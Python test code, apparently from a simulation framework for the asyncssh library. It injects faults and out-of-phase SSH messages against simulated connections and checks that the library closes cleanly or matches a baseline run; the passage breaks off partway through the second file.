                    await (proc.stdout if name.startswith('c')
                           else proc.stdin).readline()
                else:
                    await sim.pause('op:' + name)
            except OK_ERRORS as exc:
                self.op_errors += 1
                self.world.event(name, 'op-error', k, type(exc).__name__)

        self.cur.pop(name, None)

    # -- server side -----------------------------------------------------------------------

    def script_for(self, command):
        try:
            i = int(str(command).split(':')[-1])
            return self.plan['channels'][i]['s']
        except (ValueError, IndexError, TypeError):
            return []

    def start_server_script(self, sess, command):
        ops = self.script_for(command)
        self.sim.track('srv-' + sess.name,
                       self.do_ops(ops, sess.chan, 's' + sess.name))

    async def server_process(self, process):
        ops = self.script_for(process.command)
        await self.do_ops(ops, process.channel, 'sproc', proc=process)

    # -- client drivers ----------------------------------------------------------------------

    async def client_driver(self, i, ch):
        sim, conn = self.sim, self.conn
        name = 'c%d' % i
        kind = ch['kind']
        f = self.plan['fault']

        if kind == 'tunnel' and f['kind'] == 'stall' and f.get('leg', 0) \
                and i != [j for j, c in enumerate(self.plan['channels'])
                          if c['kind'] == 'tunnel'][0]:
            # keepalive is on for the inner connections: only the one whose
            # leg stalls may exist, a healthy one would never go quiet
            kind = 'proc'

        for _ in range(ch['start_delay']):
            await sim.pause('start:' + name)

        try:
            if kind == 'cb':
                sess = None

                def factory():
                    nonlocal sess
                    sess = CSess(self, 'C%d' % i)
                    return sess

                kw = {}

                if ch['req'] == 'shell':
                    kw = {}
                elif ch['req'] == 'pty-exec':
                    kw = dict(command='cmd:%d' % i, term_type='xterm')
                else:
                    kw = dict(command='cmd:%d' % i)

                chan, _ = await conn.create_session(
                    factory, encoding=None, window=self.plan['window'], **kw)
                self.nopened += 1
                await self.do_ops(ch['c'], chan, name)
            elif kind == 'tcp':
                chan, _ = await conn.create_connection(
                    lambda: TSess(self, 'Ct%d' % i), 'dest', 1000 + i,
                    encoding=None, window=self.plan['window'])
                self.nopened += 1
                await self.do_ops(ch['c'], chan, name)
            elif kind == 'proc':
                proc = await conn.create_process('cmd:%d' % i, encoding=None,
                                                 window=self.plan['window'])
                self.nopened += 1
                await self.do_ops(ch['c'], proc.channel, name, proc=proc)

                if self.plan['channels'][i].get('final_wait', True):
                    proc.stdin.write_eof() if not proc.channel.is_closing() \
                        else None
            elif kind == 'tunnel':
                def cfactory():
                    c = RecClient(self.world, name='client2-%d' % i)
                    self.inner_clients.append(c)
                    return c

                # (keepalive, needed for stall faults, is a listener-wide
                # option: an extra healthy connection would never go quiet)
                iport = 2222 if ch.get('inner_up', True) else 2223

                if ch.get('via') in ('string', 'string2', 'string2x') and \
                        self.plan['fault']['kind'] != 'stall':
                    sim.probes['tunnel_by_name'] += 1
                    # string2x: the second hop refuses the connection
                    hops = {'string': '127.0.0.1:22',
                            'string2': '127.0.0.1:22,127.0.0.1:22',
                            'string2x': '127.0.0.1:22,127.0.0.1:2223'}[
                                ch['via']]
                    conn2 = await asyncssh.connect(
                        'inner', iport, tunnel=hops,
                        client_factory=cfactory,
                        **client_opts(config=[os.path.join(sandbox(),
                                                           'ssh_config')],
                                      **self.ka))
                    self.own_tunnels.append(conn2)
                else:
                    conn2 = await asyncssh.connect(
                        'inner', iport, tunnel=conn, client_factory=cfactory,
                        **client_opts(**self.ka))

                self.nopened += 1
                sim.probes['tunnel_opened'] += 1
                proc = await conn2.create_process('cmd:%d' % i, encoding=None,
                                                  window=self.plan['window'])
                await self.do_ops(ch['c'], proc.channel, name, proc=proc)
                conn2.close()
                await conn2.wait_closed()
            else:
                sftp = await conn.start_sftp_client()
                self.nopened += 1
                sim.probes['sftp_started'] += 1

                for op in ch['c']:
                    try:
                        if op[0] == 'stat':
                            await sftp.stat('a.txt')
                        elif op[0] == 'listdir':
                            await sftp.listdir('.')
                        elif op[0] == 'read':
                            async with sftp.open('sub/b.bin', 'rb',
                                                 block_size=4096) as f:
                                await f.read()
                        elif op[0] == 'par':
                            await asyncio.gather(
                                sftp.stat('a.txt'), sftp.listdir('.'),
                                sftp.stat('sub'), sftp.stat('nonexistent'))
                        elif op[0] == 'write':
                            async with sftp.open('w%d.tmp' % i, 'wb') as f:
                                await f.write(b'z' * 70000)
                        else:
                            await sim.pause('op:' + name)
                    except OK_ERRORS as exc:
                        self.op_errors += 1
                        self.world.event(name, 'op-error', op[0],
                                         type(exc).__name__)

                sftp.exit()
                await sftp.wait_closed()
        except OK_ERRORS as exc:
            self.op_errors += 1
            self.world.event(name, 'driver-error', type(exc).__name__)

    async def api_fault(self, f):
        for _ in range(f['after']):
            await self.sim.pause('fault-delay')

        conn = self.conn if f['side'] == 'c' else \
            (self.server_owners[0].conn if self.server_owners else None)

        if conn is None:
            return

        self.sim.stats['fault_api_' + f['what']] += 1
        self.sim.log('fault', 'api', f['side'], f['what'])

        if f['what'] == 'close':
            conn.close()
        elif f['what'] == 'abort':
            conn.abort()
        else:
            conn.disconnect(asyncssh.DISC_BY_APPLICATION, 'bye')

    async def cancel_fault(self, f):
        for _ in range(f['after']):
            await self.sim.pause('fault-delay')

        task = self.drivers.get(f['chan'])

        if task is not None and not task.done():
            task.cancel()
            self.sim.stats['fault_cancel'] += 1
            self.sim.probes['cancelled_task'] += 1
            self.sim.log('fault', 'cancel', f['chan'])

    async def main(self):
        world, plan, sim = self.world, self.plan, self.sim
        f = plan['fault']
        ka = dict(keepalive_interval=15, keepalive_count_max=2) \
            if f['kind'] == 'stall' else {}
        tunnels = any(ch['kind'] == 'tunnel' for ch in plan['channels'])

        # keepalive only on the connection whose link will stall (on a
        # healthy connection it would keep the world from going quiet)
        if tunnels and f.get('leg', 0):
            self.ka, ka = ka, {}
        else:
            self.ka = {}

        def client_factory():
            c = RecClient(world)
            self.clients.append(c)
            return c

        def accepted(conn):
            # the listener's acceptor: one more callback of the owner
            owner = conn.get_owner() if hasattr(conn, 'get_owner') else \
                getattr(conn, '_owner', None)
            world.event(getattr(owner, 'name', 'server'), 'accepted')

        self.acceptor = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: OpsServer(world),
            acceptor=accepted,
            **server_opts(encoding=None, window=plan['window'], **ka))

        if any(ch['kind'] == 'tunnel' for ch in plan['channels']):
            sim.net.dns['inner'] = ['10.0.0.9']
            self.inner_acceptor = await asyncssh.listen(
                '10.0.0.9', 2222, server_factory=lambda: InnerServer(world),
                **server_opts(encoding=None, window=plan['window'],
                              **self.ka))

        async def do_connect():
            return await asyncssh.connect(
                '127.0.0.1', 22, client_factory=client_factory,
                **client_opts(**ka))

        ctask = sim.track('connect', do_connect())

        if f['kind'] == 'cancel' and f['chan'] == -1:
            self.drivers[-1] = ctask
            sim.track('cancel-fault', self.cancel_fault(f))

        try:
            self.conn = await ctask
        except OK_ERRORS as exc:
            world.event('main', 'connect-failed', type(exc).__name__)
            return
        except asyncio.CancelledError:
            if not ctask.cancelled():
                raise

            sim.probes['connect_cancelled'] += 1
            world.event('main', 'connect-cancelled')
            return

        if plan.get('remote_fwd'):
            async def fwd():
                try:
                    lst = await self.conn.forward_remote_port(
                        '127.0.0.1', 8022, 'dest', 80)
                    await sim.pause('fwd')
                    lst.close()
                    await lst.wait_closed()
                except OK_ERRORS as exc:
                    world.event('fwd', 'error', type(exc).__name__)

            sim.track('remote-fwd', fwd())

        for i, ch in enumerate(plan['channels']):
            self.drivers[i] = sim.track('drv-c%d' % i,
                                        self.client_driver(i, ch))

        if f['kind'] == 'api':
            sim.track('api-fault', self.api_fault(f))
        elif f['kind'] == 'cancel' and f['chan'] != -1:
            sim.track('cancel-fault', self.cancel_fault(f))

        await world.gate('teardown')
        td = plan['teardown']
        conn = self.conn
        sconn = self.server_owners[0].conn if self.server_owners else None

        if td in ('server_close', 'server_disconnect') and sconn is not None:
            sim.probes['teardown_server_side'] += 1

            if td == 'server_close':
                sconn.close()
            else:
                sconn.disconnect(asyncssh.DISC_BY_APPLICATION, 'go away')
        elif td == 'client_abort':
            conn.abort()
        elif td in ('cut_rst', 'cut_eof') and sim.net.connections:
            sim.net.connections[0].cut(td[4:])
        else:
            conn.close()

        await conn.wait_closed()

        # connections that went through an intermediate connection asyncssh
        # opened for them are independent of `conn`: close them too; that
        # must take their intermediate connection down with them
        for c2 in self.own_tunnels:
            if td == 'client_abort':
                c2.abort()
            else:
                c2.close()

            await c2.wait_closed()


GRAMMAR_AFTER = {
    None: {'made'},
    # exit status / signal requests are not held back until session_started
    # (only data is); the documentation promises no order between them
    'made': {'started', 'lost', 'exit', 'signal'},
    'started': {'data', 'eof', 'lost', 'exit', 'signal'},
    'data': {'data', 'eof', 'lost', 'exit', 'signal', 'started'},
    'eof': {'lost', 'exit', 'signal', 'data_other', 'started'},
    'exit': {'lost', 'data', 'eof', 'exit', 'signal', 'started'},
    'signal': {'lost', 'data', 'eof', 'exit', 'signal', 'started'},
    'lost': set(),
}


def check_grammar(world, name, log):
    """made (started)? (data|eof|exit|signal)* lost -- lost exactly once and
       last, eof at most once with no data after it (stdout/stderr share the
       session's data callback, so 'data after eof' is only checked per
       session as a whole for callback sessions where EOF is channel-wide)."""

    prev = None
    eof = False

    for i, ev in enumerate(log):
        if ev not in GRAMMAR_AFTER.get(prev, set()) and \
                not (prev == 'eof' and ev in ('exit', 'signal', 'lost')):
            if prev == 'lost':
                world.violation('after-lost', '%s: %r after connection_lost '
                                '(log %r)' % (name, ev, log), sig=ev)
            else:
                world.violation('callback-order', '%s: %r after %r (log %r)'
                                % (name, ev, prev, log), sig='%s>%s' %
                                (prev, ev))
            return

        if ev == 'started' and 'started' in log[:i]:
            world.violation('callback-order', '%s: session_started called '
                            'twice (%r)' % (name, log), sig='started-twice')
            return

        if ev == 'eof':
            if eof:
                world.violation('callback-order', '%s: eof twice (%r)' %
                                (name, log), sig='eof-twice')
                return

            eof = True
        elif ev == 'data' and eof:
            world.violation('callback-order', '%s: data after eof (%r)' %
                            (name, log), sig='data-after-eof')
            return

        prev = ev


def run_plan(plan, sched_seed=None, sched_replay=None):
    # what an earlier run of this process wrote over SFTP must not show up
    # in this run's directory listings (one seed = one execution)
    for fn in os.listdir(sandbox()):
        if fn.startswith('w') and fn.endswith('.tmp'):
            os.unlink(os.path.join(sandbox(), fn))

    world = World(plan, sched_seed, sched_replay)
    run = Run(world, plan)
    sim = world.sim
    f = plan['fault']
    wire = []

    if f['kind'] in ('rst', 'eof', 'stall'):
        seen = []
        leg = f.get('leg', 0) if any(ch['kind'] == 'tunnel'
                                     for ch in plan['channels']) else 0

        def on_connection(conn):
            seen.append(conn)

            if not wire and len(seen) == leg + 1:
                if leg:
                    sim.probes['cut_inner_leg'] += 1

                wire.append(CutWire(conn, f['dir'], f['index'], f['off'],
                                    f['kind']))

        sim.net.on_connection = on_connection

    world.start(run.main())
    world.run_phase()

    def conn_gone():
        return bool(run.clients and run.clients[0].lost) or \
            run.conn is None

    fired = bool(wire and wire[0].fired) or \
        any(k.startswith('fault_api') or k in ('fault_cancel', 'fault_app_exc')
            for k in sim.stats)

    if wire and wire[0].fired:
        owners = run.server_owners
        authed = any('auth_completed' in (e[2] for e in world.cb
                                          if e[1] == 'server') for _ in [0])

        if not authed:
            sim.probes['cut_before_auth'] += 1

        if run.nopened:
            sim.probes['cut_with_channels'] += 1

    if not sim.loop.capped:
        # a channel that was aborted locally and whose peer has sent its
        # CLOSE must be closed by now, with or without the connection
        # drain() "returns only when more can be written or fails if the
        # channel is gone": once the peer's CLOSE is in, it cannot stay
        # blocked, whatever the reader of the same channel is doing
        for name, (k, owner_conn, num) in sorted(run.cur.items()):
            if k != 'drain' or owner_conn is None or num is None:
                continue

            for label, pkts in sim.pkts.items():
                if sim.conns.get(label) is owner_conn and any(
                        d == 'R' and t == 97 and len(payload) >= 5 and
                        int.from_bytes(payload[1:5], 'big') == num
                        for d, t, _seq, payload, _note in pkts):
                    world.violation(
                        'hang', '%s: the peer has closed the channel, yet '
                        'drain() on it is still waiting' % name,
                        sig='drain-after-peer-close')
                    break

        # a session being opened whose channel the peer has closed: the
        # request that starts it will get no answer any more, the call
        # that waits for it has to end
        for name, chan in sorted(run.opening.items()):
            owner_conn, num = getattr(chan, '_conn', None), \
                getattr(chan, '_recv_chan', None)

            digits = ''.join(c for c in name if c.isdigit())
            drv = run.drivers.get(int(digits)) if digits else None

            if owner_conn is None or num is None or drv is None or \
                    drv.done():
                continue

            for label, pkts in sim.pkts.items():
                if sim.conns.get(label) is owner_conn and any(
                        d == 'R' and t == 97 and len(payload) >= 5 and
                        int.from_bytes(payload[1:5], 'big') == num
                        for d, t, _seq, payload, _note in pkts):
                    world.violation(
                        'hang', '%s: the peer has closed the channel, yet '
                        'the call opening the session on it is still '
                        'waiting' % name, sig='open-after-peer-close')
                    break

        for name, owner_conn, peer_num in run.abort_sent:
            sent_close = False

            for label, pkts in sim.pkts.items():
                if sim.conns.get(label) is owner_conn:
                    for d, t, _seq, payload, _note in pkts:
                        if d == 'S' and t == 97 and len(payload) >= 5 and \
                                int.from_bytes(payload[1:5],
                                               'big') == peer_num:
                            sent_close = True

            if not sent_close and not owner_conn.is_closed() and \
                    any(sim.conns.get(label) is owner_conn
                        for label in sim.pkts):
                world.violation(
                    'hang', 'channel %s: abort() was called on an open '
                    'connection, yet no CLOSE was ever sent for the channel '
                    '(unsent data keeps it open)' % name, sig='abort-noclose')
                break

        for name, owner_conn, num, task in run.aborted:
            if task.done() or owner_conn is None or num is None:
                continue

            got_close = False

            for label, pkts in sim.pkts.items():
                if sim.conns.get(label) is not owner_conn:
                    continue

                for d, t, _seq, payload, _note in pkts:
                    if d == 'R' and t == 97 and len(payload) >= 5 and \
                            int.from_bytes(payload[1:5], 'big') == num:
                        got_close = True

            if got_close:
                sim.probes['abort_after_peer_close'] += 1
                world.violation(
                    'hang', 'channel %s: abort() was called and the peer\'s '
                    'CLOSE has arrived, yet wait_closed() never completes '
                    '(channel still open)' % name, sig='abortwait')
                break

        if conn_gone():
            # connection is gone: nothing may still be waiting
            indep = {'drv-c%d' % i for i, ch in enumerate(plan['channels'])
                     if ch['kind'] == 'tunnel' and
                     ch.get('via') in ('string', 'string2', 'string2x')
                     and f['kind'] != 'stall'}
            indep |= {n.replace('drv-', 'abortwait-') for n in indep}
            # (waits on a channel of another connection that is still up
            # are judged by the abort oracles above)
            indep |= {'abortwait-' + name
                      for name, owner_conn, _n, _t in run.aborted
                      if owner_conn is not None and
                      owner_conn is not run.conn and
                      owner_conn is not
                      (run.server_owners[0].conn if run.server_owners
                       else None) and not owner_conn.is_closed()}
            hung = [t.sim_name for t in sim.tracked if not t.done() and
                    t.sim_name not in indep]

            if hung:
                world.violation(
                    'hang', 'connection is closed but these operations '
                    'never completed: %r' % hung[:8],
                    sig=hung[0].split('-')[0])

        # tearing down an already closed connection must return promptly too
        world.open_gate('teardown')
        world.run_phase()

    if not sim.loop.capped:
        if run.acceptor is not None:
            run.acceptor.close()

        if run.inner_acceptor is not None:
            run.inner_acceptor.close()

        world.run_phase()

    # -- final oracles ---------------------------------------------------------------
    if not sim.loop.capped:
        hung = sim.hung()

        if hung and not any(v['cls'] == 'hang' for v in world.violations):
            world.violation('hang', 'never completed after the connection '
                            'was torn down: %r' % hung[:8],
                            sig=hung[0].split('-')[0])

        for sess in run.sessions:
            if sess.log:
                check_grammar(world, sess.name, sess.log)

                if sess.log[-1] != 'lost':
                    world.violation(
                        'no-close-notification',
                        '%s: session got connection_made but never '
                        'connection_lost (log %r)' % (sess.name, sess.log))

        # with no fault at all, a client session that only listens is told
        # everything its peer did before closing the channel
        client_label = getattr(run.conn, '_sim_label', None)
        got_eof = any(d == 'R' and t == 96 for d, t, *_rest in
                      sim.pkts.get(client_label, []))

        # (one channel: the EOF the client connection took off the wire,
        # if any, is this channel's)
        if f['kind'] == 'none' and not plan.get('early') and got_eof and \
                len(plan['channels']) == 1:
            for sess in run.sessions:
                if not sess.name.startswith('C') or \
                        not sess.name[1:].isdigit() or \
                        int(sess.name[1:]) >= len(plan['channels']):
                    continue

                ch = plan['channels'][int(sess.name[1:])]
                kinds = [op[0] for op in ch['s']]

                if ch['kind'] != 'cb' or ch['c'] or 'started' not in \
                        sess.log or 'eof' not in kinds or \
                        any(k not in ('w', 'y')
                            for k in kinds[:kinds.index('eof')]):
                    continue

                sim.probes['listening_session_checked'] += 1
                want = (['data'] if any(
                    op[0] == 'w' and op[1] for op in
                    ch['s'][:kinds.index('eof')]) else []) + ['eof']
                have = [e for e in sess.log if e in ('data', 'eof')]

                if 'eof' not in have or (want[0] == 'data' and
                                         'data' not in have):
                    world.violation(
                        'not-told', '%s only listens; the server session '
                        'did %r, the client session was told %r' %
                        (sess.name, ch['s'], sess.log), sig='eof')

        for owner in run.clients + run.server_owners + run.inner_clients + \
                run.inner_owners:
            evs = [e[2] for e in world.cb if e[1] == owner.name]

            if len(owner.lost) > 1:
                world.violation('lost-twice', '%s connection_lost called %d '
                                'times' % (owner.name, len(owner.lost)))

            for exc in owner.lost:
                if f['kind'] == 'app_exc' and isinstance(exc, ValueError):
                    # (the application's own exception)
                    continue

                if exc is not None and not isinstance(exc, OK_ERRORS):
                    # nothing a peer or a caller does may end a connection
                    # with an exception escaping from the library
                    world.violation(
                        'internal-error', '%s: the connection was closed '
                        'by an internal error: %r' % (owner.name, exc),
                        sig=type(exc).__name__)

        # owner logs (one client, one server owner): lost exactly once, last
        for who in ['client'] + \
                [o.name for o in run.server_owners + run.inner_clients +
                 run.inner_owners]:
            evs = [e[2] for e in world.cb if e[1] == who]

            if evs:
                if evs.count('connection_lost') != 1:
                    world.violation(
                        'owner-close', '%s owner: connection_lost called %d '
                        'times (%r)' % (who, evs.count('connection_lost'),
                                        evs))
                elif evs[-1] != 'connection_lost':
                    world.violation(
                        'after-lost', '%s owner: callbacks after '
                        'connection_lost: %r' % (who, evs), sig='owner')

        for label, conn in sorted(sim.conns.items()):
            if conn._channels:
                world.violation(
                    'channel-residue', '%s: %d channel(s) still registered '
                    'on a closed connection' % (label, len(conn._channels)))

            if not conn.is_closed():
                world.violation('not-closed', '%s: is_closed() is False '
                                'after teardown' % label)

        left = [t for t in sim.net.transports if not t._closed]

        if left:
            world.violation('transport-residue', '%d transport(s) still '
                            'open: %r' % (len(left),
                                          [t._extra.get('peername')
                                           for t in left][:4]))

        if sim.net.listeners:
            # stated by C20, not C09: counted here, decided there
            sim.probes['listener_residue_seen'] += 1

        asyncio.set_event_loop(sim.loop)
        tasks = [t for t in asyncio.all_tasks(sim.loop) if not t.done()]
        asyncio.set_event_loop(None)

        if tasks and not world.violations:
            world.violation('task-residue', 'tasks still pending: %r' %
                            [getattr(t, 'sim_name', repr(t.get_coro()))
                             for t in tasks][:5])

    world.check_task_exceptions(
        ok=OK_ERRORS + (asyncssh.ChannelListenError,), ignore=(ValueError,) if f['kind'] == 'app_exc' else ())
    world.check_loop_health(allow_hang=True, loop_errors=False)

    sim.probes['op_error'] += run.op_errors

    for k in ('fault_rst', 'fault_eof', 'fault_stall'):
        sim.probes[k] += sim.stats.get(k, 0)
    sample = {'channels': [c['kind'] for c in plan['channels']],
              'fault': plan['fault'], 'teardown': plan['teardown'],
              'fault_fired': fired, 'opened': run.nopened,
              'op_errors': run.op_errors,
              'session_logs': {s.name: s.log[:12] for s in run.sessions[:4]}}

    return world.result(nontrivial=fired or run.nopened > 0, sample=sample)
