"""C06 -- out-of-phase and injected messages never take effect."""

import asyncssh

from simkit.refssh.peer import RefPeer, PeerError, Closed, load_private
from simkit.sshwire import Reader, Short, string, u32, boolean, namelist
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts, key, pubkey
from simkit import seams

ID = 'C06'
NAME = 'phase'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

RULE = ('asyncssh in either role runs the normal dialogue (version, KEXINIT, '
        'curve25519 exchange, NEWKEYS, service, password auth, session open, '
        'exec, echo, close) with RefPeer, which holds the keys and injects, '
        'before a drawn one of its own messages (every boundary of the '
        'dialogue), one or two messages of drawn type 1..100 in a drawn shape '
        '(well-formed for that type, empty, random body, truncated, trailing '
        'byte); RefPeer advertises strict KEX or not, and may omit the '
        'sequence-number reset it advertised. Oracle: the same plan is run '
        'without injection (baseline); after an injection either the asyncssh '
        'endpoint\'s owner gets connection_lost with an error, or the '
        'observable outcome (authenticated user, session served, echoed data, '
        'owner callbacks) equals the baseline apart from UNIMPLEMENTED '
        'replies and the debug callback. Hard rules: under strict KEX any '
        'message injected before the first NEWKEYS is fatal; a client never '
        'reports auth_completed unless it had a request outstanding; a '
        'server never reports a user without a valid password exchange; a '
        'missing sequence reset under strict KEX is fatal. Non-trivial = an '
        'injection was sent; distinct = (role, position, type, shape, strict) '
        'cell x schedule.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'the injecting peer is RefPeer (independent implementation); injected '
    'packets are correctly framed and MACed so only their type/phase/role '
    'is wrong',
    'a peer KEXINIT after the initial exchange is a legal re-key request, '
    'so types 20/21/30-49 are injected only before the first NEWKEYS',
]

REAL = ['asyncssh endpoint (client or server role): connection, auth, kex, '
        'channel', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness',
        'RefPeer as injecting peer']
PROBES = ['kbd_dialogue', 'inject_prekex', 'inject_preauth', 'inject_postauth',
          'ended_with_error', 'proceeded_as_baseline', 'strict_fatal',
          'unimplemented_reply', 'no_seq_reset', 'role_client', 'role_server',
          'pair_injection']

SHAPES = ['wellformed', 'empty', 'random', 'truncated', 'trailing']


def wellformed(t, rng_bytes):
    """A syntactically valid body for message type t (for some role)"""

    s = string
    table = {
        1: u32(2) + s(b'bye') + s(b''),
        2: s(b'ignored data'),
        3: u32(7),
        4: boolean(True) + s(b'debug message') + s(b''),
        5: s(b'ssh-userauth'),
        6: s(b'ssh-userauth'),
        7: u32(1) + s(b'server-sig-algs') + s(b'ssh-ed25519'),
        20: rng_bytes(16) + namelist([b'curve25519-sha256']) +
        namelist([b'ssh-ed25519']) + namelist([b'aes128-ctr']) * 2 +
        namelist([b'hmac-sha2-256']) * 2 + namelist([b'none']) * 2 +
        namelist([]) * 2 + boolean(False) + u32(0),
        21: b'',
        30: s(rng_bytes(32)),
        31: s(s(b'ssh-ed25519') + s(rng_bytes(32))) + s(rng_bytes(32)) +
        s(s(b'ssh-ed25519') + s(rng_bytes(64))),
        50: s(b'alice') + s(b'ssh-connection') + s(b'password') +
        boolean(False) + s(b'pw-alice'),
        51: namelist([b'password']) + boolean(False),
        52: b'',
        53: s(b'banner text\n') + s(b''),
        60: s(b'ssh-ed25519') + s(s(b'ssh-ed25519') + s(rng_bytes(32))),
        61: u32(1) + s(b'yes'),
        80: s(b'tcpip-forward') + boolean(True) + s(b'127.0.0.1') + u32(8022),
        81: b'',
        82: b'',
        90: s(b'session') + u32(5) + u32(1 << 20) + u32(32768),
        91: u32(0) + u32(9) + u32(1 << 20) + u32(32768),
        92: u32(0) + u32(2) + s(b'no') + s(b''),
        93: u32(0) + u32(1000),
        94: u32(0) + s(b'injected-data'),
        95: u32(0) + u32(1) + s(b'injected-stderr'),
        96: u32(0),
        97: u32(0),
        98: u32(0) + s(b'exit-status') + boolean(False) + u32(3),
        99: u32(0),
        100: u32(0),
    }
    return table.get(t, s(b'x'))


def in_phase(sender, phase, t, request_outstanding):
    """May a message of type t, sent by `sender` ('client'/'server') in
       `phase` ('prekex'/'preauth'/'postauth'), legitimately take effect?
       Such injections are ordinary protocol use, not what C06 is about."""

    if phase == 'prekex':
        return False

    if phase == 'preauth':
        if sender == 'client':
            return t in (5, 50)

        return t in (6, 7, 51, 53, 60) or (t == 52 and request_outstanding)

    # after authentication the whole connection protocol is open to both
    # sides; further auth requests from a client are silently ignored
    if 80 <= t <= 100:
        return True

    # a banner after authentication is late but the statement does not rule
    # it out (it constrains what is accepted *before* each phase completes)
    if sender == 'server' and t == 53:
        return True

    return sender == 'client' and t == 50


def gen_plan(rng):
    role = rng.choice(['server', 'client'])      # asyncssh's role
    npos = 10
    inj = []

    for _ in range(rng.weighted([(1, 7), (2, 3)])):
        inj.append({'t': rng.weighted([(rng.between(1, 100), 5),
                                       (rng.choice([2, 3, 4, 5, 6, 7, 20, 21,
                                                    30, 31, 50, 51, 52, 53,
                                                    80, 90, 91, 94, 98]), 5)]),
                    'shape': rng.choice(SHAPES),
                    'rnd': rng.below(1 << 30)})

    kbd = role == 'server' and rng.chance(35)
    # client role: the dialogue goes through a public key query (PK_OK, then
    # the signed request) or a keyboard-interactive round before the
    # password, so that there are moments at which a request has been
    # answered and the next one is not out yet
    cdlg = rng.choice([None, 'pk', 'kbd']) if role == 'client' else None

    if cdlg and rng.chance(70):
        inj[0]['t'] = rng.choice([52, 52, 60, 60, 51])
        inj[0]['shape'] = 'wellformed'

    if kbd and rng.chance(60):
        # the auth-method messages matter in this dialogue
        inj[0]['t'] = rng.choice([60, 61, 61, 61, 50, 51, 52])
        inj[0]['shape'] = rng.choice(['wellformed', 'wellformed', 'empty',
                                      'trailing'])

    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 20, 60]),
                    'p_chunk': rng.choice([10, 50]),
                    'latency_ms': 0, 'capacity': 0},
        'role': role,
        'strict': rng.chance(60),
        'seq_reset': not rng.chance(8),
        'pos': rng.below(npos + (2 if kbd else 0)),
        'inject': inj,
        # server role: a keyboard-interactive attempt that fails comes first
        # (challenge possibly produced asynchronously), then the password
        'kbd': kbd, 'kbd_async': kbd and rng.chance(40),
        'cdlg': cdlg,
        # inject right after (instead of right before) own message `pos`
        'after': rng.chance(60 if cdlg else 25),
    }


def valid_plan(plan):
    try:
        if plan['role'] not in ('server', 'client') or plan['pos'] < 0:
            return False

        for i in plan['inject']:
            if not 1 <= i['t'] <= 100 or i['shape'] not in SHAPES:
                return False

        if plan.get('cdlg') not in (None, 'pk', 'kbd') or \
                (plan.get('cdlg') and plan['role'] != 'client'):
            return False

        return True
    except (KeyError, TypeError):
        return False


class EchoSess(asyncssh.SSHServerSession):
    def __init__(self, out):
        self.out = out
        self.chan = None

    def connection_made(self, chan):
        self.chan = chan

    def exec_requested(self, command):
        self.out['exec'] = command
        return True

    def data_received(self, data, datatype):
        self.out['srv_data'] += data
        self.chan.write(data)

    def exit_status_received(self, status):
        self.out['exit_status'] = status


class PhaseServer(RecServer):
    def __init__(self, world, out):
        super().__init__(world)
        self.out = out

    def begin_auth(self, username):
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        self.out['pw_checks'].append((username, password))
        return (username, password) == ('alice', 'pw-alice')

    def kbdint_auth_supported(self):
        return bool(self.out.get('kbd'))

    def get_kbdint_challenge(self, username, lang, submethods):
        def make():
            self.out['kbd_outstanding'] = True
            self.out['kbd_challenges'] += 1
            return 'title', 'instr', '', [('answer?', False)]

        if self.out.get('kbd_async'):
            async def later():
                await self.world.sim.app_event('kbd-challenge')
                return make()

            return later()

        return make()

    def validate_kbdint_response(self, username, responses):
        if not self.out.get('kbd_outstanding'):
            self.out['kbd_unsolicited'] += 1

        self.out['kbd_outstanding'] = False
        self.out['kbd_validated'].append(list(responses))
        return list(responses) == ['yes']

    def auth_completed(self):
        self.out['auth_user'] = self.conn.get_extra_info('username')

    def session_requested(self):
        self.out['sessions'] += 1
        return EchoSess(self.out)

    def connection_requested(self, *args):
        self.out['tcp_opens'] += 1
        return False

    def server_requested(self, *args):
        self.out['fwd_requests'] += 1
        return False

    def debug_msg_received(self, msg, lang, always_display):
        self.out['debug'] += 1


class PhaseClient(RecClient):
    def __init__(self, world, out):
        super().__init__(world)
        self.out = out

    def auth_completed(self):
        self.out['client_auth_completed'] += 1

    def kbdint_auth_requested(self):
        if self.out.get('cdlg') != 'kbd':
            return None

        async def later():
            # (the application takes a moment to decide)
            await self.world.sim.app_event('kbd-requested')
            return ''

        return later()

    def kbdint_challenge_received(self, name, instructions, lang, prompts):
        self.out['client_kbd_challenges'] += 1
        return ['no' for _ in prompts]

    def auth_banner_received(self, msg, lang):
        self.out['banner'] += 1

    def debug_msg_received(self, msg, lang, always_display):
        self.out['debug'] += 1


def one_run(plan, inject, sched_seed, sched_replay):
    """Run the dialogue; `inject` False gives the baseline"""

    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    role = plan['role']
    out = {'auth_user': None, 'sessions': 0, 'srv_data': b'', 'exec': None,
           'pw_checks': [], 'tcp_opens': 0, 'fwd_requests': 0, 'debug': 0,
           'client_auth_completed': 0, 'banner': 0, 'echo': b'',
           'peer_error': None, 'injected_at_epoch': None, 'unimpl': 0,
           'client_got': b'', 'connected': False, 'exit_status': None,
           'client_exc': None, 'requests_outstanding': None,
           'kbd': plan.get('kbd', False),
           'kbd_async': plan.get('kbd_async', False),
           'kbd_outstanding': False, 'kbd_challenges': 0,
           'kbd_unsolicited': 0, 'kbd_validated': [],
           'cdlg': plan.get('cdlg'), 'client_kbd_challenges': 0}
    owners = []
    rand = seams._urandom

    def make_peer(prole, **kw):
        peer = RefPeer(sim, prole, rand=rand, strict=plan['strict'], **kw)
        peer.count = 0
        peer.saw_50 = 0

        if not plan['seq_reset']:
            # advertise strict KEX but do not restart sequence numbers
            def no_reset_send():
                d = 'cs' if prole == 'client' else 'sc'
                peer.send_state = peer._pending[d]
                peer.cmp_send = peer.neg['cmp_' + d].decode()

            def no_reset_recv():
                d = 'sc' if prole == 'client' else 'cs'
                peer.recv_state = peer._pending[d]
                peer.cmp_recv = peer.neg['cmp_' + d].decode()

            peer._switch_send = no_reset_send
            peer._switch_recv = no_reset_recv

        real_send = peer.send

        def send(payload, _only_inject=False, **kwargs):
            if inject and peer.count == plan['pos'] and \
                    out['injected_at_epoch'] is None:
                out['injected_at_epoch'] = peer.kex_count
                out['inject_authed'] = peer.authed
                out['inject_index'] = len(peer.sent)
                out['inject_outstanding'] = peer.saw_50 > 0

                for inj in plan['inject']:
                    t = inj['t']

